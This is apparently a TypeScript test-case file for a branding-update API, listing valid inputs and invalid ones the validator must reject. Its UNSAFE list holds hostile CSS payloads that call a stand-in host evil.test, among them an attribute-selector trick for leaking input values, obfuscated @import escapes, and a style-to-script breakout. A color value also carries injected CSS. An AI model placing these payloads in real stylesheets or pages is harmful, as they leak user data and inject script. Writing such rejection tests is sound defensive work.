import type { FeatureCases, Mistake, Stage } from './cases.ts';

const own = ({ world }: Stage) => ({ environmentId: world.ids.Environment });

const mistake = (code: string, path: string[], change: object): Mistake => ({
  code,
  path,
  input: (stage) => ({ ...own(stage), ...change }),
});

/** What would load something, or hide it. */
const UNSAFE = [
  '@import "https://evil.test/x.css";',
  '@IMPORT url(x)',
  '@font-face { font-family: x; src: local(x) }',
  '@namespace "x";',
  '@charset "utf-8";',
  'input[value^="a"] { background: url(https://evil.test/a) }',
  'p { background: URL( "https://evil.test" ) }',
  'p { background: u\\72l(https://evil.test) }',
  '@im\\port "x";',
  'p { background: image-set("https://evil.test/x" 1x) }',
  'p { background: -webkit-image-set("https://evil.test/x" 1x) }',
  'p { background: cross-fade("https://evil.test/x") }',
  'p { background: src("https://evil.test/x") }',
  '</style><script>alert(1)</script>',
  'p { color: expression(alert(1)) }',
  'p { color: red\u0007 }',
  'p { content: "\u202e" }',
];

export const brands: FeatureCases = {
  mutations: {
    updateEnvironmentBrand: {
      permission: 'update:branding',
      action: 'environment.brand_updated',
      input: (stage) => ({
        ...own(stage),
        theme: 'DARK',
        lightColors: { background: '#FAFAFA', button: '#ffdd00' },
        cardRadius: 0,
        alignment: 'END',
        isBadgeHidden: true,
        customCss: '@media (min-width: 40em) { .card { box-shadow: none; background: linear-gradient(red, rgb(0 0 0 / 10%)) } }',
      }),
      foreign: [{ type: 'Environment', input: (environmentId) => ({ environmentId, theme: 'DARK' }) }],
      mistakes: [
        mistake('INVALID_COLOR', ['darkColors', 'link'], { darkColors: { link: 'red' } }),
        mistake('INVALID_COLOR', ['lightColors', 'card'], { lightColors: { card: '#fff;} body{' } }),
        mistake('LOW_CONTRAST', ['lightColors', 'buttonText'], { lightColors: { button: '#ffdd00', buttonText: '#ffffff' } }),
        mistake('LOW_CONTRAST', ['lightColors', 'link'], { lightColors: { link: '#ffdd00' } }),
        mistake('OUT_OF_RANGE', ['buttonRadius'], { buttonRadius: -1 }),
        mistake('OUT_OF_RANGE', ['inputRadius'], { inputRadius: 49 }),
        ...UNSAFE.map((customCss) => mistake('UNSAFE_CSS', ['customCss'], { customCss })),
        mistake('TOO_LONG', ['customCss'], { customCss: 'x'.repeat(20_001) }),
        {
          code: 'PLAN_LIMIT',
          path: ['isBadgeHidden'],
          input: ({ small }) => ({ environmentId: small.ids.Environment, isBadgeHidden: true }),
        },
        mistake('CONFLICT', ['expectedVersion'], { theme: 'LIGHT', expectedVersion: 99 }),
      ],
    },
    resetEnvironmentBrand: {
      permission: 'update:branding',
      action: 'environment.brand_reset',
      input: own,
      foreign: [{ type: 'Environment', input: (environmentId) => ({ environmentId }) }],
    },
  },
};
